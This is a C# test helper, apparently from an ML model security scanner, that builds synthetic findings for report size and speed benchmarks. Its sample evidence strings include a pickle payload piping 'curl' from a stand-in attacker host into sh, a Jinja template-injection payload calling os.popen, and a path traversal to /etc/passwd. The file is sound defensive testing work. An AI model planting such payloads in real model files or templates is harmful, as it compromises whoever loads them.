using System.Collections.Immutable;
using System.Globalization;
using AtlasGuard.Core.Findings;
using AtlasGuard.Core.Rules;
using AtlasGuard.Core.Scanning;

namespace AtlasGuard.Testing;

/// <summary>
/// A large, deterministic scan result for size and speed measurements of the reports: findings of the given (real)
/// rules with their own remediation and ATLAS mapping, spread over varied paths, archive members, lines, offsets and
/// evidence of realistic length.
/// </summary>
public static class SyntheticFindings
{
    private static readonly string[] Folders =
    [
        "models/fraud-detector/v3", "third_party/hf/bert-base-uncased", "checkpoints/run-2026-11-02", "notebooks/experiments",
        "src/training/pipelines", "deploy/k8s/inference", "data/raw/transactions", ".github/workflows", "serving/rag/index",
    ];

    private static readonly string[] Files =
    [
        "pytorch_model.bin", "model.safetensors", "classifier.pkl", "train.py", "model.onnx", "ggml-model-q4_0.gguf",
        "saved_model.pb", "tokenizer_config.json", "requirements.txt", "deploy.yml", "keras_model.h5", "explore.ipynb",
    ];

    private static readonly string[] Evidence =
    [
        "calls posix.system('curl -s http://attacker.invalid/p.sh | sh') with REDUCE at 0x3f",
        "builtins.exec, builtins.eval; GLOBAL at 0x1a2 and 0x2c0",
        "Lambda layer 'preprocess' with marshalled bytecode (412 bytes)",
        "chat_template contains {{ cycler.__init__.__globals__.os.popen('id') }}",
        "external_data location '../../../../etc/passwd'",
        "token = hf_************************Qx (redacted)",
        "torch.load(path) without weights_only=True",
    ];

    /// <summary>A result with <paramref name="count"/> findings of <paramref name="rules"/>, in report order.</summary>
    public static ScanResult Create(IReadOnlyList<RuleDescriptor> rules, int count, string root = "/work/bench/ml-monorepo")
    {
        ArgumentNullException.ThrowIfNull(rules);
        var findings = new Finding[count];
        for (var i = 0; i < count; i++)
        {
            var rule = rules[(i * 7) % rules.Count];
            var path = Folders[i % Folders.Length] + "/" + Files[(i / Folders.Length) % Files.Length];
            var location = new ArtifactLocation(path.Replace("/v3", "/v" + (i % 5).ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal));
            location = (i % 3) switch
            {
                0 => location.Member("archive/data.pkl").AtOffset(0x40 + (i * 13)),
                1 => location.AtLine(1 + (i % 400), 1 + (i % 40)),
                _ => location.AtOffset(i * 97),
            };
            var severity = (Severity)((i * 3 + 1) % 5);
            findings[i] = rule.CreateFinding(location,
                string.Create(CultureInfo.InvariantCulture, $"{rule.ShortDescription.TrimEnd('.')} (occurrence {i})."),
                key: i.ToString(CultureInfo.InvariantCulture), evidence: Evidence[i % Evidence.Length], severity: severity);
        }

        Array.Sort(findings, FindingOrder.Instance);
        return new ScanResult
        {
            Root = root,
            Findings = [.. findings],
            Rules = [.. rules.OrderBy(r => r.Id, StringComparer.Ordinal)],
            Statistics = new ScanStatistics { FilesScanned = count / 2, MembersScanned = count / 3, BytesScanned = 1L << 34 },
        };
    }

    /// <summary>The rules, ordered by id, without duplicates.</summary>
    public static ImmutableArray<RuleDescriptor> Distinct(IEnumerable<RuleDescriptor> rules) =>
        [.. rules.DistinctBy(r => r.Id).OrderBy(r => r.Id, StringComparer.Ordinal)];
}
